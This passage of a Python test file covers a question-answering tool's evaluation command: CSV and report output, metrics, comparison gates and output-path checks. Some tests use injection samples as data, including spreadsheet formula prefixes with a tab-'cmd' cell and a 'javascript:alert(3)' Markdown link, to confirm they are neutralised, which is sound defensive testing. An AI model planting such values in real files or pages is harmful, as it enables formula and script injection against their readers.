              "no_answer_probability": 1.5, "read_as": "\tcmd", "citations": [],
              "passages": [], "latency_ms": 1.0}
    outputs = eval_report.Outputs.open(out=None, csv=str(tmp_path / "p.csv"), report=None,
                                       metrics=None)
    outputs.write(record)
    outputs.write({**record, "id": "plain", "question": "Who?", "prediction": "Paul",
                   "lead": None, "read_as": None})
    outputs.finish({}, [], "t")
    rows = list(csv.DictReader((tmp_path / "p.csv").open(encoding="utf-8-sig", newline="")))
    assert rows[0]["id"] == "'@id" and rows[0]["question"] == "'+1 or -1?"
    assert rows[0]["prediction"] == f"'{evil}" and rows[0]["text"] == f"'{evil} [1]"
    assert rows[0]["lead"] == "'-5 degrees" and rows[0]["read_as"] == "'\tcmd"
    assert rows[0]["gold"] == '["-5"]' and rows[0]["confidence"] == "-0.5"  # numbers as is
    assert rows[1]["id"] == "plain" and rows[1]["prediction"] == "Paul"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows
                   for name, cell in row.items() if name != "confidence")


@pytest.mark.slow  # a second process: kept out of the fast tier
def test_an_output_folder_removed_during_the_run_is_one_line(tmp_path: Path) -> None:
    """The folder of --out/--report removed while the questions were asked (a clean-up
    script, a `rm -rf reports` in another terminal): writing the outputs at the end failed
    with "qa: internal error: FileNotFoundError: ..." where the user's action is to blame.
    It is one line naming the file that could not be written, and nothing is left."""
    from qa.errors import QAError as Error

    folder = tmp_path / "reports"
    outputs = eval_report.Outputs.open(out=str(folder / "p.jsonl"), csv=None,
                                       report=str(folder / "r.md"),
                                       metrics=str(folder / "m.json"))
    shutil.rmtree(folder)
    with pytest.raises(Error) as err:
        outputs.finish({"questions": 0}, [], "t")
    assert type(err.value) is Error and str(err.value).startswith(f"cannot write '{folder}/")
    assert str(err.value).endswith(": No such file or directory")
    assert not folder.exists() and list(tmp_path.iterdir()) == []


def test_csv_predictions_open_in_excel_as_utf8(tmp_path: Path) -> None:
    """--csv is for a spreadsheet (its cells are guarded against formulas), but it was
    written without a byte order mark, and Excel opens such a file in the system's ANSI code
    page: every curly quote and dash of a quoted sentence showed as "â€œ". The file starts
    with the UTF-8 byte order mark, as Excel's own "CSV UTF-8" does."""
    quote = "Kirby said \u201cthe mission\u201d \u2013 2,500 troops"
    record = {"id": "1", "question": "Who?", "gold": ["Kirby"], "answerable": True,
              "prediction": quote, "answer": f"{quote} [1]", "text": f"{quote} [1]",
              "lead": None, "abstained": False, "confidence": 0.5,
              "no_answer_probability": 0.5, "read_as": None, "citations": [], "passages": [],
              "latency_ms": 1.0}
    outputs = eval_report.Outputs.open(out=None, csv=str(tmp_path / "p.csv"), report=None,
                                       metrics=None)
    outputs.write(record)
    outputs.finish({}, [], "t")
    raw = (tmp_path / "p.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,question,")
    rows = list(csv.DictReader((tmp_path / "p.csv").open(encoding="utf-8-sig", newline="")))
    assert rows[0]["id"] == "1" and rows[0]["prediction"] == quote


@pytest.mark.parametrize("name", ["p.xlsx", "p.XLS", "p.ods"])
def test_csv_predictions_named_as_a_workbook_are_refused(tmp_path: Path, name: str) -> None:
    """`--csv predictions.xlsx` wrote CSV text under a workbook's name, which Excel then
    refused to open ("the file format or extension is not valid"). Refused before the run,
    saying to name it .csv (which a spreadsheet opens)."""
    from qa.errors import BadSetting

    with pytest.raises(BadSetting) as err:
        eval_report.Outputs.open(out=None, csv=str(tmp_path / name), report=None,
                                 metrics=None)
    assert str(err.value) == (f"--csv writes CSV text, not a workbook: name it .csv (a "
                              f"spreadsheet opens it), got {str(tmp_path / name)!r}")
    assert list(tmp_path.iterdir()) == []


def test_breakdown_hit_at_1_is_over_the_answerable_questions_of_the_kind(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The report's per-kind hit@1 divided by every question of the kind: a kind mixing
    answerable and unanswerable questions (follow-ups) showed 0.5 where every answerable
    one was found first, unlike the metric hit@1 (over the answerable)."""
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)

    def outcome(has_answer: bool, first_rank: int | None) -> evaluation.Outcome:
        return evaluation.Outcome("followup", has_answer, not has_answer, 0.5, 1.0, first_rank,
                                  False, has_answer, False,
                                  Scored(has_answer, has_answer, 0, 0.0, 0.5), 0, 0)

    outcomes = [outcome(True, 1), outcome(True, 1), outcome(False, None), outcome(False, 2)]
    assert evaluation.aggregate(outcomes)["hit@1"] == 1.0
    predictions = tmp_path / "p.jsonl"
    predictions.write_text("".join(json.dumps(
        {"id": str(n), "question": "q", "gold": [], "abstained": True, "answer": "",
         "passages": []}) + "\n" for n in range(4)), encoding="utf-8")
    report = tmp_path / "r.md"
    eval_report.write_report(report, {"hit@1": 1.0}, outcomes, predictions, "t")
    assert "| followup | 4 | 0.0 | 0.0 | 1.000 | 0.500 | 1.000 |" in report.read_text("utf-8")
    predictions.write_text("".join(json.dumps(
        {"id": str(n), "question": "q", "gold": [], "abstained": True, "answer": "",
         "passages": []}) + "\n" for n in range(2)), encoding="utf-8")
    eval_report.write_report(report, {"hit@1": None}, outcomes[2:], predictions, "t")
    assert "| followup | 2 | 0.0 | 0.0 | 1.000 | 1.000 | n/a |" in report.read_text("utf-8")


def test_plots_are_linked_by_a_quoted_url(tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """The report linked its plots by their bare file name: for a report named "r #1 50%.html"
    the browser read "#1 ..." as a fragment (or "%" as an escape) and showed no plot; in
    Markdown a space ends the link."""
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: True)
    predictions = tmp_path / "p.jsonl"
    predictions.write_text("", encoding="utf-8")
    for name in ("r #1 50%.html", "r #1 50%.md"):
        report = tmp_path / name
        eval_report.write_report(report, {"f1": 1.0}, [], predictions, "t")
        text = report.read_text(encoding="utf-8")
        for plot in ("latency", "reliability"):
            assert f"r%20%231%2050%25.{plot}.png" in text
            assert f"r #1 50%.{plot}.png" not in text


def test_lead_metrics_count_shown_leads_and_their_precision() -> None:
    def outcome(has_answer: bool, abstained: bool, lead: bool, right: bool) -> evaluation.Outcome:
        return evaluation.Outcome(None, has_answer, abstained, 0.5, 1.0, None, False, False,
                                  False, Scored(has_answer, not abstained, 0, 0.0, 0.5), 0, 0,
                                  lead, right)

    outcomes = [outcome(True, False, True, True), outcome(True, False, True, False),
                outcome(False, False, True, False),  # a lead on an unanswerable one: wrong
                outcome(True, False, False, False), outcome(True, True, False, False)]
    metrics = evaluation.aggregate(outcomes)
    assert metrics["lead_shown"] == 0.75  # 3 of the 4 answers (the abstention is not one)
    assert metrics["lead_correct"] == round(1 / 3, 4)
    none = evaluation.aggregate([outcome(True, False, False, False)])
    assert none["lead_shown"] == 0.0 and none["lead_correct"] is None  # no lead: undefined


def test_answer_words_max_is_the_longest_answer_as_shown(fake_pipeline: Pipeline) -> None:
    """Counted as a reader (or `str.split`) counts the plain answer: the lead, its dash, the
    quotes and their markers; kept through the column store and aggregated as a maximum."""
    from qa.types import Citation, Lead, Span

    quote = "It was called Inherent Resolve by them."
    answer = Answer("q", f"{quote} [1]", False, 0.9,
                    (Citation(1, "d", "d_0", Span(0, len(quote), quote),
                              Span(0, len(quote), quote)),), (),
                    Lead(1, "d", Span(14, 30, "Inherent Resolve")))
    item = Item("i", "What was it called?", ("Inherent Resolve",))
    record = evaluation.prediction_record(item, answer, 1.0)
    outcome = evaluation.score(item, answer, record, evaluation.SourceTexts(fake_pipeline.index))
    assert outcome.words == 2 + 1 + 7 + 1  # "Inherent Resolve — It was ... them. [1]"
    short = replace(outcome, words=3)
    stored = evaluation.Outcomes([short, outcome, short])
    assert stored[1].words == 11
    assert evaluation.aggregate(stored)["answer_words_max"] == 11
    assert eval_report.lower_is_better("answer_words_max")


def test_a_lead_is_right_by_the_official_squad_f1_the_reported_f1_uses(
        fake_pipeline: Pipeline) -> None:
    """lead_correct used qa's looser token F1 (it drops Unicode punctuation too), not the
    official SQuAD F1 that the issue defines it by and that `f1` reports: a lead in curly
    quotes counted as right though its SQuAD F1 against the gold is 0."""
    from qa.types import Citation, Lead, Span

    assert evaluation.lead_correct("Inherent Resolve", ["the Inherent Resolve", "x"])
    assert evaluation.lead_correct("around 2,500", ["2,500"])  # F1 2/3
    assert not evaluation.lead_correct("\u201cInherent Resolve\u201d", ["Inherent Resolve"])
    assert not evaluation.lead_correct("\u201cInherent\u201d", ["Inherent"])
    assert not evaluation.lead_correct("anything", [])  # a lead on an unanswerable question
    quote = "It was called \u201cInherent Resolve\u201d by them."
    span = Span(14, 32, "\u201cInherent Resolve\u201d")
    answer = Answer("q", f"{quote} [1]", False, 0.9,
                    (Citation(1, "d", "d_0", Span(0, len(quote), quote),
                              Span(0, len(quote), quote)),), (), Lead(1, "d", span))
    item = Item("i", "What was it called?", ("Inherent Resolve",))
    record = evaluation.prediction_record(item, answer, 1.0)
    outcome = evaluation.score(item, answer, record,
                               evaluation.SourceTexts(fake_pipeline.index))
    assert outcome.lead and not outcome.lead_right
    assert outcome.lead_right == (outcome.squad.f1 >= evaluation.LEAD_RIGHT_F1)


def test_a_metric_over_no_questions_is_undefined_not_zero_and_a_gate_on_it_fails(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """abstention_precision was 0.0 when nothing was abstained (as were hit@1 without
    answerable questions and lead_correct without a lead): read as "every abstention was
    wrong". Such a metric is now null in JSON, n/a in the table and the reports, and a
    --fail-on-drop gate on it fails with one line naming it."""
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)
    answered = evaluation.Outcome(None, True, False, 0.9, 1.0, 1, True, True, True,
                                  Scored(True, True, 1, 1.0, 0.1), 2, 2)
    metrics = evaluation.aggregate([answered])
    undefined = {k for k, v in metrics.items() if v is None}
    assert undefined == {"abstention_precision", "abstained_unanswerable", "abstention_f1",
                         "lead_correct"}
    assert metrics["hit@1"] == 1.0 and metrics["wrongly_abstained"] == 0.0
    withheld = evaluation.Outcome(None, False, True, 0.1, 1.0, None, False, False, False,
                                  Scored(False, False, 1, 1.0, 0.9), 0, 0)
    only_unanswerable = evaluation.aggregate([withheld])
    assert only_unanswerable["abstention_precision"] == 1.0
    assert {k for k, v in only_unanswerable.items() if v is None} >= {
        "hit@1", "mrr", "answer_contains_gold", "wrongly_abstained", "citation_exact",
        "citation_supports_gold", "lead_shown", "lead_correct"}
    assert "abstention_precision    n/a" in evaluation.format_table(metrics)
    # hit@3 and hit@5 of a run that retrieved one passage (-k 1) are not hit@1 again
    assert [evaluation.aggregate([answered], k)["hit@5"] for k in (1, 3, 5, 20)] == [
        None, None, 1.0, 1.0]
    assert evaluation.aggregate([answered], 1)["hit@3"] is None
    predictions = tmp_path / "p.jsonl"
    predictions.write_text(json.dumps({"id": "1", "question": "q", "gold": ["g"],
                                       "abstained": False, "answer": "g", "passages": []})
                           + "\n", encoding="utf-8")
    for name in ("r.md", "r.html"):
        eval_report.write_report(tmp_path / name, metrics, [answered], predictions, "t")
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert ("| abstention_precision | n/a |" in text
                or "<td>abstention_precision</td><td>n/a</td>" in text) and "None" not in text
    a = _squad(tmp_path, {**metrics, "abstention_precision": 0.5}, "a.json")
    b = _squad(tmp_path, metrics, "b.json")
    assert json.loads(b.read_text())["abstention_precision"] is None  # null in JSON
    code, out, err = _main(capsys, "eval", "--compare", str(a), str(b))
    assert code == 0 and "abstention_precision" in out
    row = next(line for line in out.splitlines() if line.startswith("abstention_precision "))
    assert row.split()[1:] == ["0.5000", "n/a", "-"]
    code, out, err = _main(capsys, "eval", "--compare", str(a), str(b),
                           "--fail-on-drop", "abstention_precision=0.1")
    assert code == 1 and out == "" and err == (
        "qa: error: --fail-on-drop: metric 'abstention_precision' is undefined (null) in B: "
        "that run had nothing to measure it on; the gate fails\n")


def test_reliability_bins_whether_the_quoted_sentence_is_right_not_the_decision(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A right abstention at confidence 0.05 is not a right answer at 0.05: counted so, the
    low bins sat above the diagonal whatever the model's calibration."""
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
    def outcome(has_answer: bool, abstained: bool, confidence: float,
                supports: bool) -> evaluation.Outcome:
        return evaluation.Outcome(None, has_answer, abstained, confidence, 1.0, None, False,
                                  supports and not abstained, supports,
                                  Scored(has_answer, not abstained, 0, 0.0, 0.5), 0, 0)

    outcomes = [outcome(False, True, 0.05, False),  # unanswerable, rightly withheld
                outcome(True, True, 0.35, True),  # withheld, but its closest sentence holds it
                outcome(True, False, 0.95, True), outcome(True, False, 0.92, False)]
    predictions = tmp_path / "p.jsonl"
    predictions.write_text("".join(json.dumps({
        "id": str(i), "question": "q", "gold": [], "abstained": o.abstained, "answer": "a",
        "passages": []}) + "\n" for i, o in enumerate(outcomes)), encoding="utf-8")
    report = tmp_path / "r.md"
    eval_report.write_report(report, {"f1": 1.0}, outcomes, predictions, "t")
    text = report.read_text(encoding="utf-8")
    assert "| 0.0-0.1 | 1 | 0.050 | 0.000 |" in text
    assert "| 0.3-0.4 | 1 | 0.350 | 1.000 |" in text
    assert "| 0.9-1.0 | 2 | 0.935 | 0.500 |" in text


# -- compare ---------------------------------------------------------------------------------


def test_compare_prints_side_by_side_and_gates_regressions(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a = _squad(tmp_path, {"exact": 60.0, "f1": 70.0, "hit@1": 0.8, "latency_p50_ms": 20.0,
                          "total": 100}, "a.json")
    b = _squad(tmp_path, {"metrics": {"exact": 58.5, "f1": 71.0, "hit@1": 0.7,
                                      "latency_p50_ms": 31.0, "total": 100}}, "b.json")
    code, out, err = _main(capsys, "eval", "--compare", str(a), str(b))
    assert code == 0 and err == ""
    rows = {line.split()[0]: line.split()[1:] for line in out.splitlines()[4:]}
    assert rows["exact"] == ["60", "58.5000", "-1.5000"] and rows["f1"] == ["70", "71", "+1"]
    assert rows["latency_p50_ms"] == ["20", "31", "+11"] and rows["total"] == ["100", "100", "+0"]

    code, _, err = _main(capsys, "eval", "--compare", str(a), str(b),
                         "--fail-on-drop", "exact=2", "--fail-on-drop", "f1=0")
    assert code == 0, err  # exact fell by 1.5 (allowed 2); f1 rose
    code, _, err = _main(capsys, "eval", "--compare", str(a), str(b),
                         "--fail-on-drop", "exact=1", "--fail-on-drop", "latency_p50_ms=10",
                         "--fail-on-drop", "hit@1=0.2")
    assert code == 1
    assert "regression: exact went from 60 to 58.5 (down 1.5, more than 1)" in err
    assert "latency_p50_ms went from 20 to 31 (up 11, more than 10)" in err
    assert "hit@1" not in err

    for gate, message in (("nonsense=1", "unknown metric 'nonsense'"),
                          ("exact", "METRIC=DELTA"), ("exact=-1", "METRIC=DELTA")):
        code, _, err = _main(capsys, "eval", "--compare", str(a), str(b), "--fail-on-drop", gate)
        assert code == 2 and message in err and err.count("\n") == 1
    code, _, err = _main(capsys, "eval", "--compare", str(a), str(tmp_path / "none.json"))
    assert code == 1 and "does not exist" in err
    code, _, err = _main(capsys, "eval", "--compare", str(a), str(_squad(tmp_path, [1], "l.json")))
    assert code == 1 and "holds no metric object" in err
    assert _main(capsys, "eval")[0] == 2
    assert _main(capsys, "eval", str(SMALL_SQUAD), "--compare", str(a), str(b))[0] == 2
    assert _main(capsys, "eval", str(SMALL_SQUAD), "--fail-on-drop", "f1=1")[0] == 2


def test_a_metrics_file_too_large_to_be_one_is_refused_before_it_is_read(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """--compare read a metrics file whole, whatever its size: naming a run's predictions
    (hundreds of MB) by mistake read them all into memory to say "not valid JSON"."""
    monkeypatch.setattr(eval_report, "MAX_METRICS_BYTES", 100)
    a = _squad(tmp_path, {"f1": 70.0}, "a.json")
    big = _squad(tmp_path, "".join(json.dumps({"id": str(n)}) + "\n" for n in range(20)),
                 "predictions.jsonl")
    read_text = Path.read_text
    monkeypatch.setattr(Path, "read_text", lambda self, *args, **kw: (
        pytest.fail("read whole") if self == big else read_text(self, *args, **kw)))
    code, out, err = _main(capsys, "eval", "--compare", str(a), str(big))
    assert code == 1 and out == "" and err == (
        f"qa: error: metrics file {str(big)!r} is too large for a metric object "
        f"({big.stat().st_size:,} bytes; at most 100)\n")


def test_a_gated_metric_missing_or_not_finite_fails_the_gate(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a = _squad(tmp_path, '{"f1": 70.0, "exact": 60.0, "hit@1": 0.8}', "a.json")
    for b_text, message in (('{"f1": NaN, "exact": 60.0}', "'f1' is not a finite number in B"),
                            ('{"f1": Infinity, "exact": 60.0}', "'f1' is not a finite number"),
                            ('{"f1": 71.0, "exact": 60.0}', "'hit@1' is missing from B")):
        b = _squad(tmp_path, b_text, "b.json")
        gate = "hit@1=0.1" if "hit@1" in message else "f1=1"
        code, out, err = _main(capsys, "eval", "--compare", str(a), str(b), "--fail-on-drop", gate)
        assert code == 1 and out == "" and message in err, (b_text, err)
        assert err.startswith("qa: error:") and err.count("\n") == 1
    nan_a = _squad(tmp_path, '{"f1": NaN, "exact": 60.0}', "nan.json")
    code, _, err = _main(capsys, "eval", "--compare", str(nan_a), str(a), "--fail-on-drop", "f1=1")
    assert code == 1 and "'f1' is not a finite number in A" in err
    # Ungated, a NaN is shown, not fatal.
    code, out, _ = _main(capsys, "eval", "--compare", str(a), str(nan_a),
                         "--fail-on-drop", "exact=1")
    assert code == 0 and "nan" in out


# -- real model ------------------------------------------------------------------------------


def _cache_with_word_table(tmp_path: Path) -> Path:
    """A fresh eval cache that shares the model's word table (built once per machine)."""
    cache = tmp_path / "cache"
    cache.mkdir()
    real = Settings().cache_dir
    if real.is_dir():
        for path in real.iterdir():
            if path.is_file() and path.name.startswith("words-"):
                (cache / path.name).symlink_to(path)
    return cache


def test_odd_metric_files_are_one_line_errors_in_compare(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A metric written as a JSON integer too large for a float, or a deeply nested file,
    ended in "qa: internal error" (OverflowError, RecursionError); a file starting with a
    UTF-8 BOM was "not valid JSON", where a test set with one is read."""
    a = _squad(tmp_path, {"f1": 50.0, "exact": 40.0}, "a.json")
    huge = _squad(tmp_path, '{"f1": 1' + "0" * 400 + ', "exact": 40.0}', "huge.json")
    code, stdout, stderr = _main(capsys, "eval", "--compare", str(a), str(huge))
    assert code == 0 and stderr == "" and "inf" in stdout
    code, _, stderr = _main(capsys, "eval", "--compare", str(a), str(huge),
                            "--fail-on-drop", "f1=1")
    assert code == 1 and "'f1' is not a finite number in B (inf)" in stderr
    assert stderr.count("\n") == 1
    bom = tmp_path / "bom.json"  # as an editor or PowerShell may save it; test sets allow it
    bom.write_bytes(b"\xef\xbb\xbf" + json.dumps({"f1": 49.5, "exact": 40.0}).encode())
    code, stdout, stderr = _main(capsys, "eval", "--compare", str(a), str(bom),
                                 "--fail-on-drop", "f1=1")
    assert code == 0 and stderr == "" and "-0.5000" in stdout
    deep = _squad(tmp_path, '{"metrics": ' + "[" * 100_000 + "]" * 100_000 + "}", "deep.json")
    code, _, stderr = _main(capsys, "eval", "--compare", str(a), str(deep))
    assert code == 1 and stderr == (f"qa: error: metrics file {str(deep)!r} is not valid "
                                    "JSON (nested too deeply)\n")


@pytest.mark.slow
def test_small_squad_file_end_to_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("QA_CACHE_DIR", str(_cache_with_word_table(tmp_path)))
    out, report = tmp_path / "preds.jsonl", tmp_path / "report.md"
    code, stdout, stderr = _main(capsys, "eval", str(SMALL_SQUAD), "--json", "--out", str(out),
                                 "--report", str(report))
    assert code == 0, stderr
    m = json.loads(stdout)
    assert m["total"] == 12 and m["HasAns_total"] == 8 and m["NoAns_total"] == 4
    assert m["skipped"] == 0 and m["citation_exact"] == 1.0
    assert m["hit@3"] >= 0.875  # two short articles: the gold passage is (nearly) always found
    assert m["HasAns_f1"] > 0 and 0 <= m["best_f1"] <= 100
    assert m["best_f1"] >= m["f1"] - 1e-9  # the best threshold can only help
    predictions = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(predictions) == 12
    # Questions about one article are answered from that article (asked against both).
    for p in predictions:
        if p["answerable"]:
            wanted = "Greywater_Lighthouse" if p["id"].startswith("gw") else "Marrow_Valley_Railway"
            assert p["citations"] and p["citations"][0]["doc_id"] == wanted, p
    assert m["answer_contains_gold"] > 0
    text = report.read_text(encoding="utf-8")
    assert "| HasAns_total | 8 |" in text and "## By kind" in text and "## Misses" in text

    baseline = _main(capsys, "eval", str(SMALL_SQUAD), "--json", "--baseline")
    assert baseline[0] == 0
    b = json.loads(baseline[1])
    assert b["NoAns_exact"] == 0.0 and b["abstained_unanswerable"] == 0.0  # never abstains


KNOWN_SET = [
    {"id": "1", "question": "How many American troops are in Iraq today?",
     "answers": ["around 2,500"]},
    {"id": "2", "question": "Who is the Pentagon spokesman?", "answers": ["John Kirby"]},
    {"id": "3", "question": "In what year was ISIS’s caliphate defeated?", "answers": ["2019"]},
    {"id": "4", "question": "What is the capital of France?", "answers": []},
    {"id": "5", "question": "What was his rank?", "answers": ["Major General"],
     "history": ["Who was assassinated in Baghdad on January 3?"]},
]


@pytest.mark.slow
def test_known_five_question_set_end_to_end(
        tmp_path: Path, real_pipeline: Pipeline, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "set.jsonl"
    data.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in KNOWN_SET)
                    + "\n{broken\n", encoding="utf-8")
    settings = real_pipeline.settings
    code, stdout, stderr = _main(capsys, "eval", str(data), "--json", "--seeds",
                                 str(settings.seeds_dir), "--index", str(settings.index_dir))
    assert code == 0, stderr
    assert "line 6: not valid JSON" in stderr and "Traceback" not in stderr
    metrics = json.loads(stdout)
    assert metrics["questions"] == 5 and metrics["answerable"] == 4 and metrics["skipped"] == 1
    assert metrics["hit@1"] >= 0.75  # quality is gated on held-out sets (test_quality_gate)
    assert metrics["answer_contains_gold"] >= 0.5
    assert metrics["citation_exact"] == 1.0
    assert metrics["abstained_unanswerable"] == 1.0 and metrics["wrongly_abstained"] == 0.0


@pytest.mark.slow  # a real process (in-process: test_malformed_files_...): about a second
def test_missing_file_is_one_line_error_in_a_subprocess(tmp_path: Path) -> None:
    proc = subprocess.run([sys.executable, "-m", "qa.cli", "eval", str(tmp_path / "no.jsonl")],
                          capture_output=True, text=True, env=ENV, timeout=60, check=False)
    assert proc.returncode == 1
    assert proc.stderr.strip().startswith("qa: error:") and "Traceback" not in proc.stderr


def _varied_outcomes(n: int) -> list[evaluation.Outcome]:
    """Outcomes of every shape: kinds, ranks, abstentions, leads, odd confidences."""
    out = []
    for i in range(n):
        has = i % 3 != 0
        out.append(evaluation.Outcome(
            kind=("factual", None, "follow<up>")[i % 3], has_answer=has, abstained=i % 5 == 0,
            confidence=(i % 11) / 10 + (0.05 if i % 7 == 0 else 0.0), latency_ms=i * 0.37 % 41,
            first_rank=(i % 7) or None if has else None, sentence_hit=i % 2 == 0,
            contains=i % 4 != 1, supports=i % 6 != 2,
            squad=Scored(has, i % 5 != 0, i % 2, (i % 9) / 8, 1 - (i % 11) / 10),
            spans=3, spans_exact=3 - (i % 13 == 0), lead=i % 3 == 1, lead_right=i % 6 == 1))
    return out


@pytest.mark.slow  # a measurement (memory, time): the fast tier stays under 15 s
def test_a_runs_outcomes_are_kept_in_columns_and_read_back_the_same(tmp_path: Path) -> None:
    """A run kept an `Outcome` object (with its `Scored`) per question, about 300 bytes: a
    million questions held ~300 MB until the end. They are now columns of arrays; what is
    read back, and every figure and report made from them, is the same."""
    import tracemalloc

    listed = _varied_outcomes(300)
    kept = evaluation.Outcomes(listed)
    assert len(kept) == 300 and list(kept) == listed and kept[5] == listed[5]
    assert kept[-2:] == listed[-2:]
    assert evaluation.aggregate(kept, 5) == evaluation.aggregate(listed, 5)
    predictions = tmp_path / "p.jsonl"
    predictions.write_text("".join(json.dumps({
        "id": str(i), "question": "q?", "gold": ["g"], "abstained": o.abstained,
        "answer": "a", "passages": []}) + "\n" for i, o in enumerate(listed)), encoding="utf-8")
    for source, name in ((listed, "a"), (kept, "b")):
        (tmp_path / name).mkdir()
        eval_report.write_report(tmp_path / name / "r.md", {"f1": 1.0}, source, predictions,
                                 "t")
    assert (tmp_path / "a" / "r.md").read_text() == (tmp_path / "b" / "r.md").read_text()

    sizes = []
    for n in (500, 4_500):
        many = _varied_outcomes(n)
        tracemalloc.start()
        try:
            store = evaluation.Outcomes()
            for outcome in many:
                store.append(outcome)
            sizes.append(tracemalloc.get_traced_memory()[0])
        finally:
            tracemalloc.stop()
        del many, store
    assert (sizes[1] - sizes[0]) / 4_000 < 100, sizes  # bytes a question (a list: ~300)


@pytest.mark.slow  # a measurement (memory, time): the fast tier stays under 15 s
def test_evaluate_keeps_a_few_bytes_a_question(fake_pipeline: Pipeline) -> None:
    """What `evaluate` holds after a run grows by well under 100 bytes a question (it was
    about 280: an `Outcome` and a `Scored` object each), and the figures are unchanged."""
    import dataclasses
    import gc
    import tracemalloc

    fixed = fake_pipeline.ask("How many American troops are in Iraq today?")
    fixed = dataclasses.replace(fixed, passages=fixed.passages[:1])  # scored faster
    held = []
    for n in (50, 250):
        items = [Item(f"q{i}", f"Question {i}?", ("gold",) if i % 5 == 0 else ())
                 for i in range(n)]
        gc.collect()
        tracemalloc.start()
        try:
            before = tracemalloc.get_traced_memory()[0]
            metrics, outcomes = evaluation.evaluate(
                fake_pipeline, items, asker=lambda q, h, k: fixed)
            gc.collect()
            held.append(tracemalloc.get_traced_memory()[0] - before)
        finally:
            tracemalloc.stop()
        assert metrics == evaluation.aggregate(list(outcomes)) | {"skipped": 0, "errors": 0}
        del outcomes
    assert (held[1] - held[0]) / 200 < 100, held


def test_many_articles_with_one_title_are_numbered_in_linear_time() -> None:
    """Each article's id was found by trying every number before it: 8,000 articles titled
    alike (a file under 1 MB) took 14 s to read, 40,000 some minutes. Ids are the same."""
    import time

    data = {"data": [{"title": "Same" if i % 50 else "Same-3", "paragraphs": [
        {"context": f"Text {i}.", "qas": []}]} for i in range(12_000)]}
    started = time.perf_counter()
    articles = parse_squad(data)[0]
    assert time.perf_counter() - started < 2
    assert [a.doc_id for a in articles[:5]] == ["Same-3", "Same", "Same-2", "Same-4", "Same-5"]
    assert len({a.doc_id.lower() for a in articles}) == 12_000


def test_the_markdown_report_shows_document_text_as_written(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The Markdown report escaped HTML and table pipes only: a document's own Markdown in
    a missed answer or passage ('[x](javascript:alert(3))', '**Bob**', '`code`') was live in
    the report, a link and bold text where the document says the characters. Each cell is
    inert Markdown now (as the OpenAI and MCP answers are), and still reads as written."""
    import cmarkgfm

    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)
    text = "The guard is **Bob** [x](javascript:alert(3)) `code` <b>hi</b> | pipe"
    records = [{"id": "1", "question": "Who is the *guard*?", "gold": ["Alice"],
                "abstained": False, "answer": text, "passages": [{"text": text}]}]
    predictions = tmp_path / "p.jsonl"
    predictions.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    outcomes = [evaluation.Outcome(None, True, False, 0.9, 12.0, None, False, False, False,
                                   Scored(False, False, 0, 0.0, 0.1), 1, 1)]
    report = tmp_path / "r.md"
    eval_report.write_report(report, {"exact": 0.0}, outcomes, predictions, "Run")
    rendered = cmarkgfm.github_flavored_markdown_to_html(report.read_text(encoding="utf-8"))
    for live in ("<a ", "<strong>", "<code>code", "<em>guard", "<b>hi"):
        assert live not in rendered, live
    assert "The guard is **Bob** [x](javascript:alert(3)) `code` &lt;b&gt;hi&lt;/b&gt; | pipe" \
        in rendered


def test_outputs_may_not_land_in_the_documents_or_the_index(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
    """`qa eval t.jsonl --out seeds/notes.txt` replaced the seed document with predictions
    (exit 0), and `--report seeds/report.md` put a report (the test set's questions and
    gold answers) into the library, indexed by the next build as a document. An output in
    the seeds, data or index folder is refused before anything runs, and nothing is written."""
    seeds, index, data = tmp_path / "seeds", tmp_path / "index", tmp_path / "uploads"
    seeds.mkdir()
    note = seeds / "notes.txt"
    note.write_text("The pier opens at six.\n", encoding="utf-8")
    questions = tmp_path / "t.jsonl"
    questions.write_text('{"question": "When does the pier open?", "answers": ["six"]}\n',
                         encoding="utf-8")
    base = ["eval", str(questions), "--seeds", str(seeds), "--index", str(index),
            "--data", str(data), "--model", "fake-hashing"]
    for flag, target, folder in [("--out", note, "seeds"), ("--report", seeds / "r.md", "seeds"),
                                 ("--csv", index / "p.csv", "index"),
                                 ("--metrics-out", data / "m.json", "data")]:
        code, out, err = _main(capsys, *base, flag, str(target))
        assert code == 2 and out == "" and err.count("\n") == 1, (flag, err)
        assert f"{flag}: " in err and f"inside the {folder} folder" in err, err
    assert note.read_text(encoding="utf-8") == "The pier opens at six.\n"
    assert sorted(p.name for p in seeds.iterdir()) == ["notes.txt"]
    assert fake_model == []
    assert not [p for p in [*index.glob("*"), *data.glob("*")] if p.suffix in (".csv", ".json")]
    code, _, err = _main(capsys, *base, "--report", str(tmp_path / "r.md"))  # beside: fine
    assert code == 0, err


def test_an_output_that_is_not_a_plain_file_is_written_not_replaced(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Outputs are written beside their target and renamed over it: `--out /dev/stdout` (a
    link to the terminal or a pipe) or a named pipe was replaced by a plain file (as root,
